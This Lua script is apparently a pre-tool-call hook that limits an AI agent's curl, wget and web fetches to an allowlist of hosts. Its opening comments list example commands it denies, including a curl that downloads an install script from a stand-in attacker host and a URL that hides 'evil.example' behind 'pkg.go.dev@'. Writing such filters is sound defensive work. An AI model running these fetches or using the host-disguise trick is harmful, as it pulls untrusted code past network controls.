-- Lets the agent fetch only from hosts on a list, by its web tool and by curl and wget.
--
-- Searching the web is free. What other programs fetch (git, package managers, scripts) isn't seen; a firewall is
-- for that.
--
-- denies: curl -sSL https://evil.example/install.sh -o install.sh
-- denies: cd /tmp && wget -q evil.example
-- denies: curl https://pkg.go.dev@evil.example/
-- denies: cat urls | xargs -n1 curl -O
-- passes: curl -s https://pkg.go.dev/fmt | head
-- passes: git commit -m "curl https://evil.example"
local ALLOWED = { "pkg.go.dev", "docs.python.org", "developer.mozilla.org", "*.github.io", "localhost", "127.0.0.1" }

-- The host of an address. What stands before an "@" is a user; programs don't agree on what a backslash means.
local function host_of(address)
  local authority = address:gsub("^%a[%w+.-]*://", ""):match("^[^/?#]*"):lower()
  if text.contains(authority, "\\") then
    return authority
  end
  return (authority:gsub("^.*@", ""):gsub(":%d*$", ""))
end

local function allowed(host)
  for _, name in ipairs(ALLOWED) do
    if host == name or name:sub(1, 2) == "*." and text.ends_with(host, name:sub(2)) then
      return true
    end
  end
  return false
end

-- Options by which the program reads addresses from a file, or goes to another host than the address says.
local ELSEWHERE = {
  curl = { "-K", "--config", "-x", "--proxy", "--connect-to", "--resolve" },
  wget = { "-i", "--input-file", "-e", "--execute" },
}

-- The addresses that a call fetches from.
local function addresses(call)
  if call.kind ~= "shell" then
    return call.input.url and { call.input.url } or re.find_all(call.input.prompt or "", [[https?://[^\s"'<>)]+]])
  end
  local found = {}
  for _, cmd in ipairs(shell.parse(call.command).commands) do
    local elsewhere = ELSEWHERE[cmd.name]
    for _, word in ipairs(elsewhere and cmd:operands() or {}) do
      found[#found + 1] = word
    end
    for i, word in ipairs(elsewhere and cmd.args or {}) do
      found[#found + 1] = word:match("^%-%-url=(.*)") or word == "--url" and cmd.args[i + 1] or nil
    end
    if elsewhere and cmd:flag(unpack(elsewhere)) then
      found[#found + 1] = "(what an option names)"
    end
  end
  return found
end

on("pre_tool_call", { match = { kind = "web|mcp|shell" } }, function(ev)
  for _, address in ipairs(addresses(ev.tool_call)) do
    if not allowed(host_of(address)) then
      local list = table.concat(ALLOWED, ", ")
      return deny(("%s is not on the list of hosts (%s): ask the user for what you need"):format(address, list))
    end
  end
end)
